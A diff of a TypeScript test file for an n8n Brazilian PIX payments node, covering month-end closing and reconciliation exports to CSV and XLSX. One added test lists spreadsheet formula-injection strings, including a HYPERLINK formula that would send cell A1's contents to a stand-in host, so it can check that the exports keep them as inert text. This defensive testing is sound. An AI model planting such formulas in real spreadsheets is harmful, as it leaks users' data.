@@ -1,19 +1,6 @@
 /** The examples that compare and report what has moved, to accounting, in a real n8n. */
-import { readFile } from 'node:fs/promises';
-import { createRequire } from 'node:module';
-import { join } from 'node:path';
-
-import { parse } from 'csv-parse/sync';
-import type { IDataObject } from 'n8n-workflow';
-
-import {
-	forgetPayouts,
-	MONTH_EXAMPLE,
-	RECONCILIATION_EXAMPLE,
-	STATEMENT_EXAMPLE,
-} from '../../../dev/demo/examples';
+import { forgetPayouts, RECONCILIATION_EXAMPLE } from '../../../dev/demo/examples';
 import type { Mail } from '../../../dev/demo/mailbox';
-import { filesFolder } from '../../../dev/n8n/process/environment';
 import { waitFor } from '../../../dev/n8n/process/waitFor';
 import type { Execution } from '../../../dev/n8n/rest/executionData';
 import {
@@ -23,9 +10,10 @@ import {
 	payEachItem,
 } from '../../../dev/n8n/rest/workflow';
 import type { Payment } from '../../../dev/sandbox';
-import { LEDGER_NAME } from '../../../nodes/BrlPayments/ledger/findTable';
-import { COLUMNS } from '../../../nodes/BrlPayments/ledger/tableRow';
-import { makeInvoices, type Payout } from '../support/payouts';
+import { LEDGER_NAME } from '../../../nodes/BrlPayments/orders/findTable';
+import { COLUMNS } from '../../../nodes/BrlPayments/orders/tableRow';
+import { makeInvoices } from '../support/payouts';
+import { loadXlsx, type Book } from '../support/xlsx';
 import { DAY_MS, getError, legible, toDay, useExampleWorld } from './exampleWorld';
 
 const world = useExampleWorld();
@@ -48,75 +36,9 @@ const refuseStatements = () =>
 		code: 'FORBIDDEN',
 	});
 
-describe('the archive of statements', () => {
-	const run = async () => await world.runExample(STATEMENT_EXAMPLE, 'Every Day at 06:00');
-
-	it('saves the statement of yesterday and sends it, the same again when it runs again', async () => {
-		const day = yesterday();
-		const name = `extrato-${day}.html`;
-		for (let count = 0; count < 2; count += 1) {
-			const mail = await mailOf(run);
-			expect(mail.subject).toBe(`Extrato de ${inWords(day)}`);
-			expect(mail.attachments).toEqual([expect.objectContaining({ fileName: name })]);
-			const archived = await readFile(join(filesFolder(world.n8n.userFolder), name), 'utf8');
-			expect(archived).toContain(`Period: ${day} to ${day}`);
-			expect((await world.mailbox.attachment(mail)).toString('utf8')).toBe(archived);
-		}
-	});
-
-	it('takes other days, with the movements in them', async () => {
-		const payments = [1_010, 2_020].map((amountCents) => world.seedPayment({ amountCents }));
-		for (const { id } of payments) world.sandbox.setPaymentStatus(id, 'PAID');
-		const [from, to] = [yesterday(), toDay(Date.now())];
-		await world.setUpExample(STATEMENT_EXAMPLE, { from, to });
-		const mail = await mailOf(run);
-		expect(mail.attachments).toEqual([
-			expect.objectContaining({ fileName: `extrato-${from}-a-${to}.html` }),
-		]);
-		const statement = (await world.mailbox.attachment(mail)).toString('utf8');
-		for (const { txId } of payments) expect(statement).toContain(txId);
-	});
-});
-
 describe('the end of the month', () => {
-	/** n8n's own library for spreadsheets. */
-	interface Library {
-		read(file: Buffer): { SheetNames: string[]; Sheets: Record<string, object> };
-		utils: { sheet_to_json(sheet: object): IDataObject[] };
-	}
-
-	/** The only sheet of a file. */
-	function readSheet(file: Buffer): IDataObject[] {
-		const load = createRequire(join(world.host.folder, 'package.json'));
-		const { read, utils } = load('@e965/xlsx') as Library;
-		const { SheetNames, Sheets } = read(file);
-		expect(SheetNames).toEqual(['Fechamento']);
-		return utils.sheet_to_json(Sheets.Fechamento!);
-	}
-
-	interface Month {
-		mail: Mail;
-		csv: string;
-		/** The lines of the CSV file by their column. */
-		lines: Array<Record<string, string>>;
-		sheet: IDataObject[];
-	}
-
-	/** Runs it for yesterday and today, and reads what it has sent. */
-	async function run(): Promise<Month> {
-		const [from, to] = [yesterday(), toDay(Date.now())];
-		await world.setUpExample(MONTH_EXAMPLE, { from, to });
-		const mail = await mailOf(async () => await world.runExample(MONTH_EXAMPLE, 'Every Month'));
-		const name = `fechamento-${from}-a-${to}`;
-		expect(mail.attachments!.map(({ fileName }) => fileName)).toEqual([
-			`${name}.csv`,
-			`${name}.xlsx`,
-		]);
-		const csv = (await world.mailbox.attachment(mail, 0)).toString('utf8');
-		const lines: Month['lines'] = parse(csv, { bom: true, delimiter: ';', columns: true });
-		const sheet = readSheet(await world.mailbox.attachment(mail, 1));
-		return { mail, csv, lines, sheet };
-	}
+	/** Of yesterday and today. */
+	const run = async () => await world.closeMonth(yesterday(), toDay(Date.now()));
 
 	const pay = (count: number) => {
 		const payments = Array.from({ length: count }, (_, index) =>
@@ -124,7 +46,7 @@ describe('the end of the month', () => {
 				...{ submittedCents: 1_010 + 7 * index, createdAt: Date.now() - 20 * DAY_MS },
 				...{
 					description: `=Pedido;${index}`,
-					customer: { name: 'Maria', document: '01234567890' },
+					customer: { name: 'Maria', document: '00734120664' },
 				},
 			}),
 		);
@@ -153,7 +75,6 @@ describe('the end of the month', () => {
 	const sum = (amounts: number[]) => amounts.reduce((total, amount) => total + amount, 0);
 	const reais = (cents: number) =>
 		legible((cents / 100).toLocaleString('pt-BR', { style: 'currency', currency: 'BRL' }));
-	const comma = (cents: number) => (cents / 100).toFixed(2).replace('.', ',');
 
 	/** What the balance has changed by, as the service counts it. */
 	async function statedChange(): Promise<number> {
@@ -168,7 +89,7 @@ describe('the end of the month', () => {
 		return read('Closing') - read('Opening');
 	}
 
-	it('agrees with the statement to the centavo, in both files and the e-mail', async () => {
+	it('agrees with the statement to the centavo, in the file and the e-mail', async () => {
 		const payments = pay(123);
 		const withdrawals = [withdraw(20_010), withdraw(30_033)];
 		// What is not of these days, or moved no money.
@@ -176,7 +97,7 @@ describe('the end of the month', () => {
 		world.seedPayment({ status: 'EXPIRED', createdAt: Date.now() });
 		world.seedWithdrawal({ status: 'FAILED', createdAt: Date.now(), processedAt: Date.now() });
 
-		const { mail, csv, lines, sheet } = await run();
+		const { mail, lines } = await run();
 
 		expect(mail.subject).toMatch(/^Fechamento de \p{L}+ de \d{4}: 0 diferenças$/u);
 		const net = sum(payments.map(({ netCents }) => netCents));
@@ -189,33 +110,27 @@ describe('the end of the month', () => {
 		expect(mail.text).toContain(`Tarifas do mês: ${reais(fees + outFees)}\n`);
 		expect(mail.text).toContain('Diferenças\nNenhuma.');
 
-		expect(csv).toMatch(
-			/^\uFEFFdata;tipo;TxID;ID;forma;situação;nome ou chave PIX;CPF ou CNPJ;descrição;referência;valor;tarifa;variação do saldo;no extrato;diferença\r\n/,
-		);
-		const first = lines.find(({ ID }) => ID === payments[0]!.id)!;
-		expect(first).toMatchObject({
-			...{ tipo: 'recebimento', forma: 'PIX', situação: 'pago', 'CPF ou CNPJ': "'01234567890" },
-			...{ descrição: "'=Pedido;0", valor: comma(payments[0]!.amountCents) },
+		expect(Object.keys(lines[0]!)).toEqual([
+			...['data', 'tipo', 'TxID', 'ID', 'forma', 'situação', 'nome ou chave PIX', 'CPF ou CNPJ'],
+			...['descrição', 'referência', 'valor', 'tarifa', 'variação do saldo', 'no extrato'],
+			'diferença',
+		]);
+		expect(lines.find(({ ID }) => ID === payments[0]!.id)).toMatchObject({
+			...{ tipo: 'recebimento', forma: 'PIX', situação: 'pago', descrição: '=Pedido;0' },
+			...{ 'CPF ou CNPJ': '007.341.206-64', valor: payments[0]!.amountCents / 100 },
 			data: expect.stringMatching(/^\d\d\/\d\d\/\d{4} \d\d:\d\d$/),
 		});
 		expect(lines.slice(-3).map((line) => [line.tipo, line['variação do saldo']])).toEqual([
-			['total de recebimentos', comma(net)],
-			['total de saques', comma(-out)],
-			['total do mês', comma(net - out)],
+			['total de recebimentos', net / 100],
+			['total de saques', -out / 100],
+			['total do mês', (net - out) / 100],
 		]);
 		expect(lines).toHaveLength(123 + 2 + 3);
-
-		// The same in the spreadsheet, where amounts are numbers and texts are as they were.
-		expect(sheet).toHaveLength(lines.length);
-		expect(sheet.find(({ ID }) => ID === payments[0]!.id)).toMatchObject({
-			...{ descrição: '=Pedido;0', 'CPF ou CNPJ': '01234567890' },
-			valor: payments[0]!.amountCents / 100,
-		});
-		const cents = sheet
+		const cents = lines
 			.slice(0, -3)
 			.map((line) => Math.round(Number(line['variação do saldo']) * 100));
 		expect(sum(cents)).toBe(net - out);
-		expect(sheet.at(-1)).toMatchObject({ tipo: 'total do mês', 'no extrato': (net - out) / 100 });
+		expect(lines.at(-1)).toMatchObject({ 'no extrato': (net - out) / 100 });
 	});
 
 	it('names each difference, and all together explain the difference of the totals', async () => {
@@ -253,7 +168,41 @@ describe('the end of the month', () => {
 		);
 	});
 
-	it('writes the files also if the statement cannot be read, and for days without a movement', async () => {
+	it('shows which reference each withdrawal paid, and that one was paid twice', async () => {
+		await forgetPayouts(world.client);
+		const rows = makeInvoices(['NF-1', 'NF-2']);
+		const node = payEachItem({}, {}, { reference: '={{ $json.invoice }}' });
+		await world.run(buildWorkflow('Pay', [...manualStart(rows), node]));
+		const [first, second] = rows.map(({ pixKey }) =>
+			world.sandbox.books.withdrawals.find((each) => each.pixKey === pixKey)!,
+		);
+		for (const { id } of [first!, second!]) world.sandbox.setWithdrawalStatus(id, 'COMPLETED');
+		const [strange, again] = [withdraw(4_321), withdraw(10_050)];
+		await world.addTableRows('BRL Payouts', {
+			...{ reference: 'NF-1', status: 'paid', withdrawalId: again.id, environment: 'live' },
+		});
+
+		const { mail, lines } = await run();
+
+		const twice = 'a referência foi paga mais de uma vez';
+		expect(
+			lines
+				.filter(({ tipo }) => tipo === 'saque')
+				.map(({ ID, referência, diferença }) => [ID, referência, diferença])
+				.sort(),
+		).toEqual(
+			[
+				[first!.id, 'NF-1', twice],
+				[second!.id, 'NF-2', ''],
+				[strange.id, '', ''],
+				[again.id, 'NF-1', twice],
+			].sort(),
+		);
+		expect(mail.text).toContain(`${twice}: ${first!.txId}`);
+		expect(mail.text).not.toContain('BRL Payouts');
+	});
+
+	it('writes the file also if the statement cannot be read, and for days without a movement', async () => {
 		refuseStatements();
 		const empty = await run();
 		expect(empty.lines.map(({ tipo }) => tipo)).toEqual([
@@ -267,6 +216,82 @@ describe('the end of the month', () => {
 		expect(lines.map((line) => [line['no extrato'], line.diferença])).toEqual(
 			Array.from({ length: 5 }, () => ['', '']),
 		);
+	});
+
+	/** What a spreadsheet program takes for a number, a date or a formula if it may. */
+	const TEXTS = [
+		...['0012', '1E10', '20261001000123456', '12-2026', '1/2', '10,50', '1.234,56', '-1', 'TRUE'],
+		...['=HYPERLINK("http://x.example/?"&A1,"recibo")', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1'],
+		...['+55', '@SUM(1)', "'0012", '="0012"', '"a";b'],
+	];
+
+	it('writes each text as it is, into cells that stay text when the file is saved again', async () => {
+		const documents: Record<string, string> = {
+			...{ '45387012000159': '45.387.012/0001-59', '00734120664': '007.341.206-64' },
+			...{ '7KB40X9Z000151': '7K.B40.X9Z/0001-51', '12345678E00131': '12.345.678/E001-31' },
+			'***341206***': '***341206***',
+		};
+		const createdAt = Date.now();
+		const paid = { status: 'PAID', createdAt } as const;
+		const bank = { documentType: null, institutionName: null, institutionIspb: null };
+		await world.createTable(LEDGER_NAME, COLUMNS);
+		for (const text of TEXTS) {
+			const payer = { ...bank, name: text, document: null };
+			const { id } = world.seedPayment({ ...paid, description: text, payer });
+			const charge = { kind: 'charge', status: 'created', environment: 'live' };
+			await world.addTableRows(LEDGER_NAME, { ...charge, reference: text, paymentId: id });
+		}
+		for (const document of Object.keys(documents)) {
+			world.seedPayment({ ...paid, payer: { ...bank, name: 'Maria', document } });
+		}
+		const keys = ['45387012000159', '00734120664', '+5541998765432', 'ana@payee.example'];
+		for (const pixKey of keys) {
+			world.seedWithdrawal({ status: 'COMPLETED', createdAt, processedAt: createdAt, pixKey });
+		}
+
+		const { file, lines } = await run();
+
+		const values = (column: string) => lines.map((line) => line[column]);
+		for (const column of ['descrição', 'referência', 'nome ou chave PIX']) {
+			expect(values(column)).toEqual(expect.arrayContaining(TEXTS));
+		}
+		expect(values('CPF ou CNPJ')).toEqual(expect.arrayContaining(Object.values(documents)));
+		expect(values('nome ou chave PIX')).toEqual(
+			expect.arrayContaining([
+				...['45.387.012/0001-59', '007.341.206-64', '+5541998765432', 'ana@payee.example'],
+			]),
+		);
+
+		const { read, write } = loadXlsx(world.host);
+		const cellsOf = ({ Sheets }: Book) =>
+			Object.entries(Sheets.Fechamento!)
+				.filter(([address]) => !address.startsWith('!'))
+				.map(([address, { t, v, f }]) => ({ address, t, v, f }));
+		const cells = cellsOf(read(file));
+		// Amounts are in the columns K to N; the first line has the titles.
+		const isAmount = (address: string) => /^[K-N](?!1$)/.test(address);
+		const types = cells.map(({ address, t, v }) => [
+			address,
+			v === '' || !isAmount(address) ? 's' : 'n',
+			t,
+		]);
+		expect(types.filter(([, expected, found]) => expected !== found)).toEqual([]);
+		expect(cells.filter(({ f }) => f !== undefined)).toEqual([]);
+		expect(cellsOf(read(write(read(file), { bookType: 'xlsx', type: 'buffer' })))).toEqual(cells);
+	});
+
+	it.each([
+		...['0012', '1E10', '20261001000123456', '45387012000159', '12345678E00131', '1/2', 'TRUE'],
+		'+5541998765432',
+	])('is no CSV file, where %s would become something else', (text) => {
+		const { read } = loadXlsx(world.host);
+		const readBack = (cell: string) => {
+			const { SheetNames, Sheets } = read(Buffer.from(`\uFEFFtitle\r\n${cell}\r\n`));
+			return Sheets[SheetNames[0]!]!.A2!;
+		};
+		expect(readBack(text).t).not.toBe('s');
+		// Shown with the apostrophe, which nobody finds when they look the number up.
+		expect(readBack(`'${text}`).v).toBe(`'${text}`);
 	});
 });
 
@@ -413,165 +438,5 @@ describe('the daily reconciliation', () => {
 		const mail = await mailOf(run);
 		expect(mail.subject).toContain(': 0 diferenças');
 		expect(mail.text).toContain('Nenhum movimento neste dia.');
-	});
-});
-
-describe('the audit of payouts', () => {
-	const HOUR_MS = DAY_MS / 24;
-
-	beforeEach(async () => {
-		await forgetPayouts(world.client);
-		// The test says what becomes of each.
-		world.sandbox.account.withdrawalCompletionDelayMs = HOUR_MS;
-	});
-
-	async function pay(references: readonly string[]): Promise<Payout[]> {
-		const rows = makeInvoices(references);
-		const node = payEachItem({}, {}, { reference: '={{ $json.invoice }}' });
-		const execution = await world.run(buildWorkflow('Pay', [...manualStart(rows), node]));
-		expect(getError(execution)).toBeUndefined();
-		return rows;
-	}
-
-	/** What the table has beside payouts. */
-	async function charge(orders: readonly string[]): Promise<void> {
-		const node = brlPayments('Charge', 'payment', 'create', {
-			...{ chargeBy: 'amount', amount: '50,02', methods: ['PIX'], mode: 'headless' },
-			...{ additionalFields: { externalId: '={{ $json.order }}' }, options: {} },
-		});
-		const items = orders.map((order) => ({ order }));
-		const execution = await world.run(buildWorkflow('Charge', [...manualStart(items), node]));
-		expect(getError(execution)).toBeUndefined();
-	}
-
-	function completeAll(): void {
-		for (const { id, status } of world.sandbox.books.withdrawals) {
-			if (status !== 'FAILED') world.sandbox.setWithdrawalStatus(id, 'COMPLETED');
-		}
-	}
-
-	it('leaves out charges, which the table has as well', async () => {
-		await pay(['NF-1', 'NF-2']);
-		await charge(['NF-1', 'PED-2']);
-		completeAll();
-
-		const { lines, mail } = await world.audit();
-
-		expect(lines.map(({ referência, diferença }) => [referência, diferença]).sort()).toEqual([
-			['NF-1', ''],
-			['NF-2', ''],
-		]);
-		expect(mail.text).toContain('Referências pagas na tabela BRL Payouts: 2');
-	});
-
-	it('finds no difference if all three lists agree, and writes what Excel reads in Brazil', async () => {
-		const [first] = await pay(['=NF;1', 'NF-2']);
-		completeAll();
-
-		const { mail, file, lines } = await world.audit();
-
-		expect(lines.map(({ diferença }) => diferença)).toEqual(['', '']);
-		expect(mail.subject).toMatch(
-			/^Conferência dos pagamentos de [\d/]{10} a [\d/]{10}: 0 diferenças$/,
-		);
-		expect(mail.text).toContain('Saques no serviço: 2');
-		expect(mail.text).toContain('Referências pagas na tabela BRL Payouts: 2');
-		expect(mail.text).toContain('Extrato: comparado');
-		const text = file.toString('utf8');
-		expect(text).toMatch(
-			/^\uFEFFreferência;situação;valor;tarifa;chave PIX;ID do saque;TxID;criado em;concluído em;no extrato;fluxo;execução;diferença\r\n/,
-		);
-		expect(text).toContain(`"'=NF;1";concluído;100,50;1,50;${first!.pixKey};`);
-		const { id } = world.sandbox.books.withdrawals.find(({ pixKey }) => pixKey === first!.pixKey)!;
-		expect(lines.find((line) => line['ID do saque'] === id)).toMatchObject({
-			TxID: expect.stringMatching(/^WIT/),
-			'criado em': expect.stringMatching(/^\d\d\/\d\d\/\d{4} \d\d:\d\d:\d\d$/),
-			'no extrato': 'sim',
-			fluxo: expect.stringMatching(/^\w+$/),
-			execução: expect.stringMatching(/^\d+$/),
-		});
-	});
-
-	it('names each difference between the table, the service and the statement', async () => {
-		await pay(['Agrees', 'Refused', 'Other', 'Gone', 'Open', 'Twice']);
-		const find = (cents: number) =>
-			world.sandbox.books.withdrawals.find(({ amountCents }) => amountCents === cents)!;
-		world.sandbox.setWithdrawalStatus(find(10_151).id, 'FAILED');
-		await world.editLedger('Other', { amount: 99 });
-		await world.editLedger('Gone', { withdrawalId: '00000000-0000-4000-8000-000000000000' });
-		await world.editLedger('Open', { status: 'sending', withdrawalId: null });
-		const strange = world.sandbox.payByOtherTool({ environment: 'PRODUCTION', amountCents: 4_321 });
-		const second = world.sandbox.payByOtherTool({ environment: 'PRODUCTION', amountCents: 10_555 });
-		await world.addTableRows('BRL Payouts', {
-			...{ reference: 'Twice', status: 'paid', withdrawalId: second.id, environment: 'live' },
-		});
-		completeAll();
-		// Completed without a movement in the statement.
-		const unstated = world.seedWithdrawal({ createdAt: Date.now(), status: 'COMPLETED' });
-
-		const { mail, lines } = await world.audit();
-
-		const found = lines
-			.filter(({ diferença }) => diferença)
-			.map((line) => [line.referência, line['ID do saque'], line.diferença]);
-		const onlyInService = 'só no serviço: a tabela não conhece este saque';
-		const unknown = 'não se sabe se foi pago: rode a lista de novo';
-		const twice = 'a referência foi paga mais de uma vez';
-		expect(found.sort()).toEqual(
-			[
-				['Refused', find(10_151).id, 'pago na tabela, mas o banco recusou'],
-				['Other', find(10_252).id, 'outro valor na tabela: 99,00'],
-				['', find(10_353).id, onlyInService],
-				[
-					'Gone',
-					'00000000-0000-4000-8000-000000000000',
-					'só na tabela: o serviço não mostra este saque',
-				],
-				['', find(10_454).id, onlyInService],
-				['Open', '', unknown],
-				['', strange.id, onlyInService],
-				['Twice', find(10_555).id, twice],
-				['Twice', second.id, twice],
-				['', unstated.id, `${onlyInService}, não está no extrato`],
-			].sort(),
-		);
-		expect(mail.subject).toContain(': 10 diferenças');
-		expect(mail.text).toContain(`${onlyInService}: R$ 43,21`);
-	});
-
-	it('says of a reference that the bank refused first, and a second withdrawal paid, that it is paid', async () => {
-		await pay(['Paid Later']);
-		const [first] = world.sandbox.books.withdrawals;
-		world.sandbox.setWithdrawalStatus(first!.id, 'FAILED');
-		const second = world.sandbox.payByOtherTool({ environment: 'PRODUCTION', amountCents: 10_050 });
-		await world.addTableRows('BRL Payouts', {
-			...{ reference: 'Paid Later', status: 'paid', withdrawalId: second.id, environment: 'live' },
-		});
-		completeAll();
-
-		const { mail, lines } = await world.audit();
-
-		expect(
-			lines
-				.map((line) => [line['ID do saque'], line.referência, line.situação, line.diferença])
-				.sort(),
-		).toEqual(
-			[
-				[first!.id, 'Paid Later', 'falhou, pago por outro saque', ''],
-				[second.id, 'Paid Later', 'concluído', ''],
-			].sort(),
-		);
-		expect(mail.subject).toContain(': 0 diferenças');
-	});
-
-	it('compares the other two lists if the statement cannot be read', async () => {
-		await pay(['NF-3']);
-		completeAll();
-		refuseStatements();
-
-		const { mail, lines } = await world.audit();
-
-		expect(mail.text).toContain('Extrato: não pôde ser lido, e não foi comparado');
-		expect(lines.map((line) => [line['no extrato'], line.diferença])).toEqual([['', '']]);
 	});
 });
